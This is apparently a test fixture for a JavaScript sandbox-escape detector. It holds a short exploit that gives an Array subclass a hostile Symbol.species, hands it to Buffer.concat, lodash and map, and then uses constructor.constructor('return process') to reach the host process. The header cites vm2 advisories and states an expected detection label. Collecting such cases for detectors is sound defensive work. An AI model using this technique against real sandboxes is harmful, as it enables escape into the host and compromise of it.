// Attack: an Array subclass whose Symbol.species is ours, handed to host code (Buffer.concat, lodash)
// that derives new arrays from it; the species constructor then sees whatever the host passes.
// Cites: the 2026 vm2 advisories on Array species ("Array.prototype methods called by the host on a
// sandbox array with a hostile @@species return host-created objects to the sandbox").
// expect: DYNAMIC_CODE
// details: {"construct": "Function constructor"}
const seen = [];
class Evil extends Array {
  static get [Symbol.species]() {
    return function (...args) { seen.push(new.target, ...args); return []; };
  }
}
const list = Evil.from([Buffer.from('a'), Buffer.from('b')]);
try { Buffer.concat(list); } catch {}
try { require('lodash').filter(list, Boolean); } catch {}
try { list.map((x) => x); } catch {}
for (const value of [...seen, list]) {
  if (typeof value === 'function' || (typeof value === 'object' && value !== null)) value.constructor.constructor('return process')();
}
return 'escaped';
